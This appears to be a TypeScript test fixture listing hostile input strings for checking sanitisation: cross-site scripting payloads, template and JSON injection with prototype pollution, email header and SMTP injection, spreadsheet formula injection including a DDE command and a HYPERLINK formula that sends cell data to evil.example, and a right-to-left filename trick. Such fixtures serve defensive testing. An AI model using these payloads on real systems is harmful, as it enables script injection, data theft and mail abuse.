/** What somebody who means harm writes wherever anything can be written. The name says what it tries. */
export const hostileTexts = {
  'an element': `<img src=x onerror="ran('name')">`,
  'a script that first closes what is around it': `"></td></table><script>ran(1)</script>`,
  'an attribute': `" onmouseover="ran(1)" style='position:fixed`,
  'the end of a title or a style sheet': `</title></style><svg onload=ran(1)>`,
  'the end of a comment': `--><iframe src="javascript:ran(1)"></iframe><!--`,
  'a link that runs': `javascript:ran(1)//<a href="javascript:ran(1)">`,
  'markup of other kinds': `[a](javascript:ran(1)) ![b](http://evil.example/p.png)`,
  'a template': '{{email}} {{1337*7331}} ${1337*7331} #{7*7} <%= 1 %>',
  entities: '&lt;script&gt;ran(1)&lt;/script&gt;&#x3c;b&#x3e;',
  'another header': 'Eve\r\nBcc: thief@example.com\r\nX-Evil: 1',
  'another header behind a line separator':
    'Eve\u2028Bcc: thief@example.com\u0085Cc: t@example.com',
  'another message': 'Eve\r\n\r\n.\r\nMAIL FROM:<thief@example.com>',
  'a formula': `=HYPERLINK("http://evil.example?"&A1,"x")`,
  'a command': `@SUM(1+9)*cmd|' /C calc'!A0`,
  'a sum': '-2+3+cmd|x',
  'a sign in the wide form': '＝1+1',
  'another cell and row': `a",=1+1;=1+1\t=1+1\r\n=1+1,"b`,
  'the end of a JSON text': `","isAdmin":true,"__proto__":{"x":1},"y":"\\`,
  'a turned direction': '\u202Egpj.exe\u2066',
} as const;

/** What all others are compared with. */
export const harmlessText = 'Eve Example';

/** As it reads on one line. */
export const onOneLine = (text: string) => text.replaceAll(/[\p{Cc}\s]+/gu, ' ').trim();
